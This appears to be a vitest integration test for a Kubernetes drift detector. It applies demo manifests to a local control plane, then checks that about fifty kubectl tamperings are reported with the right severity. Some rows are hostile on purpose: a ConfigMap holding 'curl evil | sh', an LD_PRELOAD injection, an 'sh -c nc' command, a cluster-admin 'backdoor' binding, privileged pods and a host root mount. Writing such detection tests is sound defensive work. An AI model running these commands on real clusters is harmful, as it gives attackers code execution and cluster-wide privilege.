import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanOptions } from '../../src/cli/options.ts';
import type { DriftReport } from '../../src/drift/report.ts';
import { connect } from '../../src/kube/connect.ts';
import type { Resource } from '../../src/model/resource.ts';
import { atLeast, type Severity } from '../../src/model/severity.ts';
import { drift } from '../../src/scan/drift.ts';
import { readLive } from '../../src/scan/drift-live.ts';
import { readManifestText } from '../../src/sources/manifest/read.ts';
import { missingBinaries } from '../control-plane/binaries.ts';
import { type ControlPlane, startControlPlane } from '../control-plane/start.ts';
import { applyAll, DEMO, demoResources } from './drift-estate.ts';

/** Kinds that the demo has none of. */
const MORE = `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata:
  name: guard
  annotations: {cert-manager.io/inject-ca-from: guard/guard}
webhooks:
- name: guard.streamly.example
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: Fail
  clientConfig: {service: {name: guard, namespace: guard, path: /validate}}
  rules:
  - {apiGroups: [guarded.example], apiVersions: [v1], operations: [CREATE], resources: [things]}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: quiet, namespace: ads}
spec:
  replicas: 1
  selector: {matchLabels: {app: quiet}}
  template:
    metadata: {labels: {app: quiet}}
    spec:
      containers:
      - name: quiet
        image: registry.example/quiet:1
        resources: {limits: {cpu: 1000m, memory: 1024Mi}, requests: {cpu: 0.5}}
        ports: [{containerPort: 53, protocol: UDP, name: dns}, {containerPort: 53, name: dns-tcp}]
---
apiVersion: autoscaling/v1
kind: HorizontalPodAutoscaler
metadata: {name: quiet, namespace: ads}
spec: {maxReplicas: 3, targetCPUUtilizationPercentage: 70, scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: quiet}}
---
apiVersion: v1
kind: Service
metadata: {name: quiet, namespace: ads}
spec: {selector: {app: quiet}, ports: [{port: 53, protocol: UDP, name: dns}, {port: 53, name: dns-tcp}]}
`;

/** Objects of the demo that no API server takes: planted mistakes. */
const REFUSED = ['catalogue-api', 'fraud-check', 'image-builder', 'invoicing', 'support-console', 'webhook-receiver'];

let extra: string;
let more: readonly Resource[];

beforeAll(() => {
  extra = mkdtempSync(join(tmpdir(), 'castellan-drift-'));
  writeFileSync(join(extra, 'more.yaml'), MORE);
  more = readManifestText('more.yaml', MORE).resources;
});

afterAll(() => rmSync(extra, { recursive: true, force: true }));

async function driftOf(plane: ControlPlane): Promise<DriftReport> {
  const options = await scanOptions([DEMO, extra], { today: '2026-11-21' }, '0.0.0');
  const client = await connect({ kubeconfig: plane.kubeconfig });
  try {
    return await drift({
      ...options,
      failOn: 'low',
      unmanaged: true,
      readLive: (declared) => readLive(client, declared, { defaultNamespace: 'default', onlyNamespace: undefined }),
    });
  } finally {
    client.close();
  }
}

const skip = missingBinaries() !== undefined;

describe.skipIf(skip).each([
  ['kubectl apply --server-side', true],
  ['kubectl apply', false],
])('the demo, untouched after %s', (_, serverSide) => {
  let plane: ControlPlane;
  beforeAll(async () => {
    plane = await startControlPlane();
    await applyAll(plane, [...(await demoResources()), ...more], serverSide);
  });
  afterAll(() => plane?.stop());

  it('is as declared, but for what the server refused', async () => {
    const report = await driftOf(plane);

    expect(report.gaps).toEqual([]);
    expect(report.objects.filter(({ state }) => state !== 'missing')).toEqual([]);
    expect(report.objects.map(({ subject }) => subject.name).filter((name) => !REFUSED.includes(name))).toEqual([]);
    expect(report.summary.compared).toBeGreaterThan(370);
  });
});

interface Row {
  readonly title: string;
  /** Arguments of kubectl; of `patch`, the JSON patch comes last. */
  readonly run: readonly string[];
  /** Kind, namespace and name. */
  readonly subject: string;
  /** `changed spec.replicas`, `missing`, `unmanaged`. */
  readonly expected: string;
  readonly by?: string;
  readonly atLeast?: Severity;
  readonly introduces?: string;
}

const POD = '/spec/template/spec';
const BOX = `${POD}/containers/0`;

function patch(kind: string, namespace: string, name: string, ...operations: object[]): string[] {
  const where = namespace === '' ? [] : ['-n', namespace];
  return ['patch', kind, name, ...where, '--type=json', '-p', JSON.stringify(operations)];
}

const ROWS: readonly Row[] = [
  {
    title: 'another image',
    run: ['set', 'image', '-n', 'payments', 'deploy/checkout', 'checkout=registry.example/other:latest'],
    subject: 'Deployment payments/checkout',
    expected: 'changed spec.template.spec.containers[checkout].image',
    by: 'kubectl-set',
    atLeast: 'high',
    introduces: 'image-latest-tag',
  },
  {
    title: 'replicas without an autoscaler',
    run: ['scale', '-n', 'playback', 'deploy/watch-history', '--replicas=9'],
    subject: 'Deployment playback/watch-history',
    expected: 'changed spec.replicas',
    by: 'kubectl',
  },
  {
    title: 'replicas out of the bounds of the autoscaler',
    run: ['scale', '-n', 'accounts', 'deploy/accounts-api', '--replicas=0'],
    subject: 'Deployment accounts/accounts-api',
    expected: 'added spec.replicas',
    by: 'kubectl',
  },
  {
    title: 'the value of a variable',
    run: ['set', 'env', '-n', 'playback', 'deploy/watch-history', 'RETENTION_DAYS=1'],
    subject: 'Deployment playback/watch-history',
    expected: 'changed spec.template.spec.containers[watch-history].env[RETENTION_DAYS].value',
    by: 'kubectl-set',
    atLeast: 'medium',
  },
  {
    title: 'a variable more',
    run: ['set', 'env', '-n', 'playback', 'deploy/watch-history', 'LD_PRELOAD=/tmp/x.so'],
    subject: 'Deployment playback/watch-history',
    expected: 'added spec.template.spec.containers[watch-history].env[LD_PRELOAD]',
    by: 'kubectl-set',
  },
  {
    title: 'a variable less',
    run: ['set', 'env', '-n', 'playback', 'deploy/watch-history', 'CLICKHOUSE_URL-'],
    subject: 'Deployment playback/watch-history',
    expected: 'removed spec.template.spec.containers[watch-history].env[CLICKHOUSE_URL]',
  },
  {
    title: 'a sidecar',
    run: patch('deploy', 'playback', 'subtitle-service', {
      op: 'add',
      path: `${POD}/containers/-`,
      value: { name: 'debug', image: 'busybox', securityContext: { privileged: true } },
    }),
    subject: 'Deployment playback/subtitle-service',
    expected: 'added spec.template.spec.containers[debug]',
    by: 'kubectl-patch',
    atLeast: 'high',
    introduces: 'privileged-container',
  },
  {
    title: 'a privileged container',
    run: patch(
      'deploy',
      'data',
      'schema-registry',
      { op: 'add', path: `${BOX}/securityContext/privileged`, value: true },
      { op: 'replace', path: `${BOX}/securityContext/allowPrivilegeEscalation`, value: true },
    ),
    subject: 'Deployment data/schema-registry',
    expected: 'added spec.template.spec.containers[schema-registry].securityContext.privileged',
    atLeast: 'high',
    introduces: 'privileged-container',
  },
  {
    title: 'a guard that is gone',
    run: patch('deploy', 'ads', 'ad-decision', {
      op: 'remove',
      path: `${BOX}/securityContext/allowPrivilegeEscalation`,
    }),
    subject: 'Deployment ads/ad-decision',
    expected: 'removed spec.template.spec.containers[ad-decision].securityContext.allowPrivilegeEscalation',
    atLeast: 'high',
  },
  {
    title: 'capabilities that are not dropped',
    run: patch('deploy', 'ads', 'campaign-api', { op: 'remove', path: `${BOX}/securityContext/capabilities` }),
    subject: 'Deployment ads/campaign-api',
    expected: 'removed spec.template.spec.containers[campaign-api].securityContext.capabilities.drop',
    atLeast: 'high',
  },
  {
    title: 'a capability more',
    run: patch('deploy', 'data', 'event-collector', {
      op: 'add',
      path: `${BOX}/securityContext/capabilities/add`,
      value: ['SYS_ADMIN'],
    }),
    subject: 'Deployment data/event-collector',
    expected: 'added spec.template.spec.containers[event-collector].securityContext.capabilities.add',
    atLeast: 'high',
  },
  {
    title: 'a volume of the node',
    run: patch('deploy', 'catalogue', 'search-api', {
      op: 'add',
      path: `${POD}/volumes/-`,
      value: { name: 'root', hostPath: { path: '/' } },
    }),
    subject: 'Deployment catalogue/search-api',
    expected: 'added spec.template.spec.volumes[root]',
    atLeast: 'high',
  },
  {
    title: 'the network of the node',
    run: patch('deploy', 'catalogue', 'metadata-ingest', { op: 'add', path: `${POD}/hostNetwork`, value: true }),
    subject: 'Deployment catalogue/metadata-ingest',
    expected: 'added spec.template.spec.hostNetwork',
    atLeast: 'high',
    introduces: 'host-network',
  },
  {
    title: 'another command',
    run: patch('deploy', 'data', 'stream-processor', { op: 'add', path: `${BOX}/command`, value: ['sh', '-c', 'nc'] }),
    subject: 'Deployment data/stream-processor',
    expected: 'added spec.template.spec.containers[stream-processor].command',
    atLeast: 'high',
  },
  {
    title: 'another account',
    run: patch('deploy', 'playback', 'drm-license', {
      op: 'replace',
      path: `${POD}/serviceAccountName`,
      value: 'config-reloader',
    }),
    subject: 'Deployment playback/drm-license',
    expected: 'changed spec.template.spec.serviceAccountName',
    atLeast: 'high',
  },
  {
    title: 'a token in the pod',
    run: patch('deploy', 'playback', 'entitlement', {
      op: 'replace',
      path: `${POD}/automountServiceAccountToken`,
      value: true,
    }),
    subject: 'Deployment playback/entitlement',
    expected: 'changed spec.template.spec.automountServiceAccountToken',
    atLeast: 'high',
  },
  {
    title: 'a pod that may be root',
    run: patch('deploy', 'accounts', 'profile-service', {
      op: 'replace',
      path: `${POD}/securityContext/runAsNonRoot`,
      value: false,
    }),
    subject: 'Deployment accounts/profile-service',
    expected: 'changed spec.template.spec.securityContext.runAsNonRoot',
    atLeast: 'high',
  },
  {
    title: 'an unconfined pod',
    run: patch('deploy', 'playback', 'session-tracker', {
      op: 'replace',
      path: `${POD}/securityContext/seccompProfile/type`,
      value: 'Unconfined',
    }),
    subject: 'Deployment playback/session-tracker',
    expected: 'changed spec.template.spec.securityContext.seccompProfile.type',
    atLeast: 'high',
  },
  {
    title: 'a label of the pods',
    run: patch('deploy', 'accounts', 'auth-service', { op: 'remove', path: '/spec/template/metadata/labels/tier' }),
    subject: 'Deployment accounts/auth-service',
    expected: 'removed spec.template.metadata.labels.tier',
    atLeast: 'medium',
  },
  {
    title: 'limits that are gone',
    run: patch('deploy', 'media', 'thumbnailer', { op: 'remove', path: `${BOX}/resources/limits/memory` }),
    subject: 'Deployment media/thumbnailer',
    expected: 'removed spec.template.spec.containers[thumbnailer].resources.limits.memory',
  },
  {
    title: 'a toleration of a DaemonSet',
    run: patch('ds', 'monitoring', 'log-agent', {
      op: 'add',
      path: `${POD}/tolerations/-`,
      value: { operator: 'Exists', key: 'secure' },
    }),
    subject: 'DaemonSet monitoring/log-agent',
    expected: 'added spec.template.spec.tolerations[1]',
  },
  {
    title: 'the image of a StatefulSet',
    run: ['set', 'image', '-n', 'payments', 'sts/ledger-db', 'ledger-db=postgres:17'],
    subject: 'StatefulSet payments/ledger-db',
    expected: 'changed spec.template.spec.containers[ledger-db].image',
    atLeast: 'high',
  },
  {
    title: 'the schedule of a CronJob',
    run: patch('cronjob', 'data', 'warehouse-export', { op: 'replace', path: '/spec/suspend', value: true }),
    subject: 'CronJob data/warehouse-export',
    expected: 'added spec.suspend',
  },
  {
    title: 'a verb of a Role',
    run: patch('role', 'playback', 'config-reloader', { op: 'add', path: '/rules/0/verbs/-', value: 'delete' }),
    subject: 'Role playback/config-reloader',
    expected: 'changed rules[0].verbs',
    by: 'kubectl-patch',
    atLeast: 'high',
  },
  {
    title: 'a rule of a ClusterRole',
    run: patch('clusterrole', '', 'platform-operator', {
      op: 'add',
      path: '/rules/-',
      value: { apiGroups: [''], resources: ['secrets'], verbs: ['*'] },
    }),
    subject: 'ClusterRole platform-operator',
    expected: 'added rules[4]',
    atLeast: 'high',
  },
  {
    title: 'a subject of a RoleBinding',
    run: patch('rolebinding', 'payments', 'developers', {
      op: 'add',
      path: '/subjects/-',
      value: { kind: 'User', name: 'mallory', apiGroup: 'rbac.authorization.k8s.io' },
    }),
    subject: 'RoleBinding payments/developers',
    expected: 'added subjects[User/mallory]',
    atLeast: 'high',
  },
  {
    title: 'a ClusterRoleBinding that nobody declared',
    run: [
      'create',
      'clusterrolebinding',
      'backdoor',
      '--clusterrole=cluster-admin',
      '--serviceaccount=payments:default',
    ],
    subject: 'ClusterRoleBinding backdoor',
    expected: 'unmanaged',
    by: 'kubectl-create',
    atLeast: 'high',
  },
  {
    title: 'a RoleBinding that nobody declared',
    run: ['create', 'rolebinding', 'guest', '-n', 'payments', '--clusterrole=edit', '--user=mallory'],
    subject: 'RoleBinding payments/guest',
    expected: 'unmanaged',
    atLeast: 'high',
  },
  {
    title: 'a policy that is gone',
    run: ['delete', 'networkpolicy', 'default-deny', '-n', 'playback'],
    subject: 'NetworkPolicy playback/default-deny',
    expected: 'missing',
    atLeast: 'high',
  },
  {
    title: 'a peer of a policy',
    run: patch('netpol', 'payments', 'checkout', {
      op: 'add',
      path: '/spec/ingress/0/from/-',
      value: { ipBlock: { cidr: '0.0.0.0/0' } },
    }),
    subject: 'NetworkPolicy payments/checkout',
    expected: 'added spec.ingress[0].from[1]',
    atLeast: 'high',
  },
  {
    title: 'ports of a policy that are gone',
    run: patch('netpol', 'payments', 'payments-api', { op: 'remove', path: '/spec/ingress/0/ports' }),
    subject: 'NetworkPolicy payments/payments-api',
    expected: 'removed spec.ingress[0].ports[0]',
    atLeast: 'high',
  },
  {
    title: 'an empty selector beside a pod selector',
    run: patch('netpol', 'payments', 'ledger', {
      op: 'add',
      path: '/spec/ingress/0/from/0/namespaceSelector',
      value: {},
    }),
    subject: 'NetworkPolicy payments/ledger',
    expected: 'added spec.ingress[0].from[0].namespaceSelector',
    atLeast: 'high',
  },
  {
    title: 'what a namespace admits',
    run: ['label', 'namespace', 'payments', '--overwrite', 'pod-security.kubernetes.io/enforce=privileged'],
    subject: 'Namespace payments',
    expected: 'changed metadata.labels[pod-security.kubernetes.io/enforce]',
    by: 'kubectl-label',
    atLeast: 'high',
  },
  {
    title: 'a label of a namespace that is gone',
    run: ['label', 'namespace', 'accounts', 'pod-security.kubernetes.io/enforce-'],
    subject: 'Namespace accounts',
    expected: 'removed metadata.labels[pod-security.kubernetes.io/enforce]',
    atLeast: 'high',
  },
  {
    title: 'a Service on every node',
    run: patch('svc', 'payments', 'payments-api', { op: 'replace', path: '/spec/type', value: 'NodePort' }),
    subject: 'Service payments/payments-api',
    expected: 'added spec.type',
    atLeast: 'medium',
  },
  {
    title: 'other addresses of a Service',
    run: patch('svc', 'data', 'clickhouse', { op: 'add', path: '/spec/externalIPs', value: ['203.0.113.7'] }),
    subject: 'Service data/clickhouse',
    expected: 'added spec.externalIPs',
    atLeast: 'high',
  },
  {
    title: 'an Ingress without TLS',
    run: patch('ingress', 'edge', 'tv-apps', { op: 'remove', path: '/spec/tls' }),
    subject: 'Ingress edge/tv-apps',
    expected: 'removed spec.tls[streamly-wildcard]',
    atLeast: 'medium',
  },
  {
    title: 'a configuration',
    run: patch('cm', 'data', 'kafka-topics', { op: 'add', path: '/data/apply.sh', value: 'curl evil | sh' }),
    subject: 'ConfigMap data/kafka-topics',
    expected: 'changed data[apply.sh]',
    atLeast: 'medium',
  },
  {
    title: 'a workload that is gone',
    run: ['delete', 'deploy', 'ad-insertion', '-n', 'ads'],
    subject: 'Deployment ads/ad-insertion',
    expected: 'missing',
    atLeast: 'medium',
  },
  {
    title: 'a pod that nobody declared',
    run: ['run', 'shell', '-n', 'payments', '--image=busybox', '--privileged'],
    subject: 'Pod payments/shell',
    expected: 'unmanaged',
    by: 'kubectl-run',
    atLeast: 'high',
    introduces: 'privileged-container',
  },
  {
    title: 'a Secret that nobody declared',
    run: ['create', 'secret', 'generic', 'loot', '-n', 'payments', '--from-literal=a=b'],
    subject: 'Secret payments/loot',
    expected: 'unmanaged',
    by: 'kubectl-create',
  },
  {
    title: 'the budget of disruptions',
    run: patch('pdb', 'payments', 'ledger', {
      op: 'add',
      path: '/spec/unhealthyPodEvictionPolicy',
      value: 'AlwaysAllow',
    }),
    subject: 'PodDisruptionBudget payments/ledger',
    expected: 'added spec.unhealthyPodEvictionPolicy',
  },
  {
    title: 'the bounds of an autoscaler',
    run: patch('hpa', 'playback', 'playback-api', { op: 'replace', path: '/spec/maxReplicas', value: 900 }),
    subject: 'HorizontalPodAutoscaler playback/playback-api',
    expected: 'changed spec.maxReplicas',
  },
  {
    title: 'a quota',
    run: patch('quota', 'payments', 'compute', { op: 'replace', path: '/spec/hard/requests.cpu', value: '9000' }),
    subject: 'ResourceQuota payments/compute',
    expected: 'changed spec.hard[requests.cpu]',
    atLeast: 'medium',
  },
  {
    title: 'an annotation',
    run: ['annotate', 'sa', 'checkout', '-n', 'payments', 'eks.amazonaws.com/role-arn=arn:aws:iam::1:role/admin'],
    subject: 'ServiceAccount payments/checkout',
    expected: 'added metadata.annotations[eks.amazonaws.com/role-arn]',
    by: 'kubectl-annotate',
    atLeast: 'high',
  },
  {
    title: 'a webhook that no longer guards',
    run: patch('validatingwebhookconfiguration', '', 'guard', {
      op: 'replace',
      path: '/webhooks/0/failurePolicy',
      value: 'Ignore',
    }),
    subject: 'ValidatingWebhookConfiguration guard',
    expected: 'changed webhooks[guard.streamly.example].failurePolicy',
    atLeast: 'high',
  },
  {
    title: 'a webhook that guards fewer namespaces',
    run: patch('validatingwebhookconfiguration', '', 'guard', {
      op: 'replace',
      path: '/webhooks/0/namespaceSelector',
      value: { matchLabels: { guarded: 'yes' } },
    }),
    subject: 'ValidatingWebhookConfiguration guard',
    expected: 'added webhooks[guard.streamly.example].namespaceSelector',
    atLeast: 'high',
  },
  {
    title: 'a field of a custom resource',
    run: patch('externalsecrets.external-secrets.io', 'payments', 'ledger-db', {
      op: 'replace',
      path: '/spec/refreshInterval',
      value: '999h',
    }),
    subject: 'ExternalSecret payments/ledger-db',
    expected: 'changed spec.refreshInterval',
    by: 'kubectl-patch',
  },
  {
    title: 'a field more of a custom resource',
    run: patch('externalsecrets.external-secrets.io', 'payments', 'ledger-db', {
      op: 'add',
      path: '/spec/extra',
      value: { everything: true },
    }),
    subject: 'ExternalSecret payments/ledger-db',
    expected: 'added spec.extra',
    by: 'kubectl-patch',
  },
];

describe.skipIf(skip)('changes to a cluster', () => {
  let plane: ControlPlane;
  let report: DriftReport;
  beforeAll(async () => {
    plane = await startControlPlane();
    await applyAll(plane, [...(await demoResources()), ...more], true);
    for (const { run } of ROWS) await plane.kubectl(run);
    // As they should be: within an autoscaler's bounds, and filled in by who the object asks.
    await plane.kubectl(['scale', '-n', 'accounts', 'deploy/auth-service', '--replicas=7']);
    await plane.kubectl(
      patch('validatingwebhookconfiguration', '', 'guard', {
        op: 'add',
        path: '/webhooks/0/clientConfig/caBundle',
        value: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==',
      }),
    );
    report = await driftOf(plane);
  });
  afterAll(() => plane?.stop());

  const nameOf = ({ kind, namespace, name }: { kind: string; namespace: string; name: string }) =>
    `${kind} ${namespace ? `${namespace}/` : ''}${name}`;

  it.each(ROWS)('$title: $subject', ({ subject, expected, by, atLeast: least, introduces }) => {
    const object = report.objects.find((one) => nameOf(one.subject) === subject);
    const found =
      object?.state === 'changed' ? object.differences.map((d) => `${d.change} ${d.label}`) : [object?.state];
    const difference = object?.differences.find((d) => `${d.change} ${d.label}` === expected);

    expect(found).toContain(expected);
    if (by) expect((difference ?? object)?.author?.manager).toBe(by);
    if (least) expect(atLeast(object!.severity, least)).toBe(true);
    if (introduces) expect(object?.introduces.map(({ rule }) => rule)).toContain(introduces);
  });

  it('tells of nothing else', () => {
    const subjects = new Set(ROWS.map(({ subject }) => subject));
    const others = report.objects.filter(
      ({ state, subject }) =>
        !subjects.has(nameOf(subject)) && !(state === 'missing' && REFUSED.includes(subject.name)),
    );
    const known = new Set(ROWS.map(({ subject, expected }) => `${subject} ${expected}`));
    const differences = report.objects.flatMap((object) =>
      object.differences.map((d) => `${nameOf(object.subject)} ${d.change} ${d.label}`),
    );

    expect(others.map(({ subject }) => nameOf(subject))).toEqual([]);
    expect(differences.filter((name) => !known.has(name))).toEqual([
      'Deployment data/schema-registry changed spec.template.spec.containers[schema-registry].securityContext.allowPrivilegeEscalation',
    ]);
  });

  it('knows what is as it should be', () => {
    const expected = report.expected.map(({ subject, label }) => `${nameOf(subject)} ${label}`);

    expect(expected).toContain('Deployment accounts/auth-service spec.replicas');
    expect(expected).toContain(
      'ValidatingWebhookConfiguration guard webhooks[guard.streamly.example].clientConfig.caBundle',
    );
  });

  it('points at the declaration', () => {
    const checkout = report.objects.find(({ subject }) => nameOf(subject) === 'Deployment payments/checkout');

    expect(checkout?.place).toMatchObject({
      file: expect.stringMatching(/apps\/payments\/checkout\/deployment\.yaml$/),
      line: 48,
    });
  });
});
